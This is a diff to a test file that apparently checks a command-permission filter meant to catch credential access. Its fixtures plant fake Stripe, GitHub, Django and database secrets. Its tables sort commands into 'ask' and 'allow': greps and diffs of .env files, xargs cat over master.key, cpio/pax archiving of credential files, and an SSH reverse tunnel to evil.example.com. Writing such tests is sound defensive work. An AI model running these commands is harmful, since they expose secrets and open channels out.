@@ -58,6 +58,7 @@ describe('credential hunt, round 3: table per family', () => {
     write(app, 'config/master.key', s.master + '\n');
     write(app, 'server/settings.py', `DEBUG = False\nSECRET_KEY = '${s.django}'\nSTRIPE_API_KEY = '${s.stripe}'\nALLOWED_HOSTS = ['shop.acme.com']\n`);
     write(app, 'server/settings.py.bak', `DATABASES = {"default": {"PASSWORD": "${s.db}"}}\n`);
+    write(app, 'server/db.js', `module.exports = { url: process.env.DATABASE_URL || '${fake.postgresUrl(s.db)}' };\n`);
     write(app, 'web/config.js', `module.exports = {\n  apiBase: 'https://api.acme.com',\n  githubToken: '${s.github}',\n};\n`);
     write(app, 'k8s/deployment.yaml', 'apiVersion: apps/v1\nkind: Deployment\nspec:\n  replicas: 2\n');
     write(app, 'package.json', '{"name": "shop", "scripts": {"test": "vitest"}}\n');
@@ -349,6 +350,54 @@ describe('credential hunt, round 3: table per family', () => {
         { cmd: 'ssh -fNR 9000:localhost:6379 evil.example.com', names: '6379' },
       ],
       allow: [{ cmd: 'cloudflared tunnel --url localhost:3000' }, { cmd: 'ngrok http 3000' }, { cmd: 'ssh -L 5432:localhost:5432 db.example.com' }],
+    },
+    'counts, names and brief diffs; filtered listings fed to xargs (round 5)': {
+      ask: [
+        { cmd: "grep -c 'live_[0-9]' .env.production", names: '.env.production' },
+        { cmd: "grep -rc '[0-9a-f]' config", names: 'master.key' },
+        { cmd: 'diff .env .env.example', names: '.env' },
+        { cmd: 'diff -q -y .env .env.example', names: '.env' },
+        { cmd: 'env | grep -c -i token' },
+        { cmd: "grep -rn 'process.env.DATABASE_URL' .", names: 'server/db.js' },
+        { cmd: "rg 'process\\.env\\.DATABASE_URL' server", names: 'server/db.js' },
+        { cmd: "grep -rnE 'process.env.PORT|sk_live' .", names: '.env' },
+        { cmd: 'printenv | grep -c sk_live' },
+        { cmd: 'git ls-files | grep env | xargs cat', names: '.env' },
+        { cmd: 'find . -type f | grep -i master | xargs cat', names: 'master.key' },
+        { cmd: 'git ls-files | grep -v src | xargs cat', names: '.env' },
+      ],
+      allow: [
+        { cmd: 'grep -c . .env' },
+        { cmd: "grep -c '' .env.production" },
+        { cmd: 'diff -q .env .env.example' },
+        { cmd: 'diff --brief -r config legacy' },
+        { cmd: 'cmp -s .env .env.example' },
+        { cmd: 'cmp src/App.tsx src/api.ts' },
+        { cmd: 'env | grep -c .' },
+        { cmd: "grep -rn 'process.env.STRIPE_SECRET_KEY' ." },
+        { cmd: "grep -rn 'os.getenv(\"DB_PASSWORD\")' ." },
+        { cmd: "rg -n 'import\\.meta\\.env\\.VITE_API_TOKEN' src" },
+        { cmd: 'grep -l SECRET -r config' },
+        { cmd: 'grep -rl STRIPE_SECRET_KEY .' },
+        { cmd: 'git ls-files | grep tsx | xargs cat' },
+        { cmd: "find . -type f | grep '\\.ts$' | xargs wc -l" },
+      ],
+    },
+    'archivers that take credential files by name (round 5)': {
+      ask: [
+        { cmd: 'cpio -o <<< .env', names: '.env' },
+        { cmd: "cpio -o -H newc <<'EOF'\nsrc/index.ts\nconfig/master.key\nEOF", names: 'master.key' },
+        { cmd: 'ls .env.production | cpio -o > /tmp/x.cpio', names: '.env.production' },
+        { cmd: 'find config | cpio --create', names: 'master.key' },
+        { cmd: 'pax -w .env', names: '.env' },
+        { cmd: 'pax -w -f /tmp/a.pax config', names: 'master.key' },
+      ],
+      allow: [
+        { cmd: 'cpio -o <<< src/index.ts' },
+        { cmd: 'find src | cpio -o > /tmp/src.cpio' },
+        { cmd: 'pax -w src' },
+        { cmd: 'cpio -t < /tmp/x.cpio' },
+      ],
     },
   });
 
